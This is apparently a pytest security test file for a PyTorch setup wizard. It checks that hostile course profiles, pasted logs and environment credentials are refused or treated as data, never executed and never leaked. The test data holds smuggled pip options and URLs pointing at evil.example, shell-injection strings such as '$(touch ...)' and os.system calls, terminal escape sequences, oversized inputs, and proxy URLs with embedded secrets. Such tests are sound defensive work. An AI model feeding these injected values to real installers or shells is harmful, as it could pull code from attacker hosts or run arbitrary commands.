"""Hostile course profiles, pasted text and secrets in every shape: refused cleanly or read as data, answered
in time, never executed, never leaked."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.security.hostile import hostile_strings
from tests.security.referee import SECRET, TOKEN_SECRETS, hostile_case
from wizard.cli import UsageError
from wizard.facts.host import collect_host
from wizard.findings import Goal
from wizard.profile import ProfileError, parse_profile
from wizard.report.export import render_export
from wizard.report.json_report import report_json
from wizard.report.redact import redact_text

# ------------------------------------------------------------------ profiles


def profile_texts(canary: Path) -> dict[str, str]:
    base = '[course]\nname = "DL"\n'
    texts = {
        "pkg-requirements-url": base + f'[packages]\n"-rhttp://evil.example/{canary.name}" = "*"\n',
        "pkg-target": base + '[packages]\n"-t/" = "*"\n',
        "pkg-find-links": base + '[packages]\n"-fhttp://evil.example/" = "*"\n',
        "pkg-editable": base + f'[packages]\n"-e{canary.parent}" = "*"\n',
        "pkg-direct-url": base + '[packages]\n"evil @ https://evil.example/evil.whl" = "*"\n',
        "pkg-local-path": base + f'[packages]\n"{canary.parent}/evil" = "*"\n',
        "pkg-extras-option": base + '[packages]\n"numpy[--pre]" = "*"\n',
        "pkg-marker": base + '[packages]\n"numpy; os_name == \'posix\'" = "*"\n',
        "spec-url": base + '[packages]\nnumpy = "@ https://evil.example/numpy.whl"\n',
        "spec-option": base + f'[packages]\nnumpy = ">=1 -r {canary}"\n',
        "spec-arbitrary": base + '[packages]\nnumpy = "===--index-url=https://evil.example"\n',
        "spec-shell": base + f'[packages]\nnumpy = "$(touch {canary})"\n',
        "torch-shell": base + f'[torch]\nversion = "`touch {canary}`"\n',
        "python-option": base + '[python]\nversions = "--target=/"\n',
        "deep-arrays": base + "x = " + "[" * 5000 + "]" * 5000 + "\n",
        "many-packages": base + "[packages]\n" + "".join(f'pkg{i} = ">=1"\n' for i in range(20_000)),
        "long-name": base.replace("DL", "N" * 500_000),
        "html-name": base.replace("DL", "<img src=\\\"file:///dev/zero\\\"><h1>x</h1>"),
        "escape-name": base.replace("DL", "\\u001b]0;title\\u0007\\u001b[2J"),
        "secret-contact": base + f'contact = "http://bob:{SECRET}@evil.example"\n',
        "nul": base + "\x00\x00",
        "not-toml": "\x1b[2J" * 1000,
        "unknown-section": base + "[tool.pip]\nindex-url = 'https://evil.example'\n",
        "smoke-injection": base + f'[smoke_test]\nname = "import os; os.system(\'touch {canary}\')"\n',
    }
    return texts


def use_profile(text: str, out) -> None:
    from tests.security.hostile import hostile_report
    from wizard.commands.check import render_text
    from wizard.engine import diagnose
    from wizard.safe_text import for_terminal

    profile = parse_profile(text, "course.toml")
    for name, _spec in profile.packages:
        assert name.replace("-", "").replace(".", "").replace("_", "").isalnum(), f"package {name!r} got through"
    snapshot, _ = hostile_report("plain")
    diagnosis = diagnose(snapshot, goal=Goal(profile=profile))
    out.output(render_text(snapshot, diagnosis, color=False), for_terminal(profile.name))
    for action in (a for f in diagnosis.findings for a in f.actions if a.argv):
        assert not any(arg.startswith("-") and arg[1:2] in "rtfe" and len(arg) > 2 for arg in action.argv[4:]), action


@pytest.mark.parametrize("name", list(profile_texts(Path("/x"))))
def test_a_hostile_course_profile_is_refused_or_harmless(name: str, canary: Path) -> None:
    text = profile_texts(canary)[name]
    hostile_case(f"profile:{name}", "profile", lambda out: use_profile(text, out), canary=canary,
                 secrets=(SECRET,), expected=(ProfileError,))


# ------------------------------------------------------------------ pasted text


def pasted_texts(canary: Path) -> dict[str, str]:
    texts = {f"paste-{name}": text for name, text in hostile_strings(canary).items()}
    texts.update({
        "huge-collect-env": "PyTorch version: 2.5.0\nIs CUDA available: False\n" * 100_000,
        "regex-bait": "CUDA " * 200_000 + "error",
        "traceback-flood": 'File "x.py", line 1, in <module>\n' * 200_000,
        "report-lookalike": '{"schema": "torch-setup-wizard/report@1", "snapshot": {"host": ' * 1000,
        "secret-pip-log": f"Looking in indexes: https://user:{SECRET}@pypi.corp.example/simple\n"
                          f"ERROR: HTTP error 401 https://pypi.corp.example/simple?token={SECRET}\n",
        "token-traceback": "".join(f"export TOKEN={token}\n" for token in TOKEN_SECRETS),
        "nvidia-smi-escapes": "\x1b[2J| NVIDIA-SMI 550.54 Driver Version: 550.54 CUDA Version: 12.4 \x1b]0;x\x07|\n",
        "only-nul": "\x00" * 1_000_000,
        "mixed-newlines": "a\rb\r\nc\n" * 100_000,
    })
    return texts


def diagnose_paste(text: str, out) -> None:
    from wizard.commands.diagnose import render, snapshot_from_input
    from wizard.engine import diagnose

    snapshot = snapshot_from_input(text)
    diagnosis = diagnose(snapshot)
    out.output(render(snapshot, diagnosis, as_json=False), render(snapshot, diagnosis, as_json=True))
    out.output(render_export(snapshot, diagnosis, "md", redact=True).text)


@pytest.mark.parametrize("name", list(pasted_texts(Path("/x"))))
def test_a_hostile_paste_is_diagnosed_as_data(name: str, canary: Path) -> None:
    text = pasted_texts(canary)[name]
    hostile_case(f"paste:{name}", "paste", lambda out: diagnose_paste(text, out), canary=canary,
                 secrets=(SECRET, *TOKEN_SECRETS), expected=(UsageError,))


# ------------------------------------------------------------------ secrets in the environment and in text

PROXY_SHAPES = {
    "http-userinfo": f"http://alice:{SECRET}@proxy.corp.example:3128",
    "https-userinfo": f"https://alice:{SECRET}@proxy.corp.example",
    "scheme-less": f"alice:{SECRET}@proxy.corp.example:3128",
    "socks5h": f"socks5h://alice:{SECRET}@10.1.2.3:1080",
    "percent-encoded-at": f"http://alice%40corp.example:{SECRET}@proxy:8080",
    "raw-at-in-password": f"http://alice:{SECRET}@x@proxy:8080",
    "user-only-token": f"https://{SECRET}@pypi.corp.example/simple",
    "query-token": f"https://pypi.corp.example/simple?token={SECRET}",
    "query-api-key": f"https://pypi.corp.example/simple/?foo=1&api_key={SECRET}",
    "ipv6-host": f"http://alice:{SECRET}@[2001:db8::7]:3128",
    "list-of-indexes": f"https://a.example/simple https://bob:{SECRET}@b.example/simple",
    "uppercase-scheme": f"HTTP://alice:{SECRET}@PROXY.CORP.EXAMPLE:3128",
}
ENV_VARIABLES = ("HTTPS_PROXY", "HTTP_PROXY", "ALL_PROXY", "https_proxy", "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL",
                 "TSW_TORCH_INDEX", "CUDA_HOME")


def collected_env_report(variable: str, value: str, out) -> None:
    from tests.security.hostile import hostile_report

    fact = collect_host({variable: value, "PATH": "/usr/bin"})
    snapshot, diagnosis = hostile_report("plain")
    snapshot = type(snapshot)(**{**snapshot.__dict__, "host": fact})
    out.output(repr(fact.value.env), report_json(snapshot, diagnosis))
    out.output(render_export(snapshot, diagnosis, "md", redact=False).text)


@pytest.mark.parametrize("variable", ENV_VARIABLES)
@pytest.mark.parametrize("shape", list(PROXY_SHAPES))
def test_credentials_in_the_environment_are_never_stored(variable: str, shape: str, canary: Path) -> None:
    value = PROXY_SHAPES[shape]
    hostile_case(f"env:{variable}:{shape}", "secrets/env", lambda out: collected_env_report(variable, value, out),
                 secrets=(SECRET,))


TEXT_SECRETS = {
    **{f"proxy-{name}": text for name, text in PROXY_SHAPES.items()},
    **{f"token-{token[:6]}": f"the error said: auth failed for {token} (HTTP 401)" for token in TOKEN_SECRETS},
    "bearer": f"Authorization: Bearer {SECRET}.abc.def",
    "basic": "Authorization: Basic " + "YWxpY2U6" + SECRET,
    "password-kv": f"pip.conf: password={SECRET}",
}


def redacted_everywhere(text: str, out) -> None:
    from tests.security.hostile import hostile_report

    out.output(redact_text(text))
    snapshot, diagnosis = hostile_report(text)
    out.output(report_json(snapshot, diagnosis))  # secrets never reach a report, even unredacted
    out.output(render_export(snapshot, diagnosis, "html", redact=True).text)


@pytest.mark.parametrize("name", list(TEXT_SECRETS))
def test_secrets_in_text_never_reach_a_report(name: str) -> None:
    text = TEXT_SECRETS[name]
    secret = SECRET if SECRET in text else next(t for t in TOKEN_SECRETS if t in text)
    hostile_case(f"redaction:{name}", "secrets/text", lambda out: redacted_everywhere(text, out), secrets=(secret,))
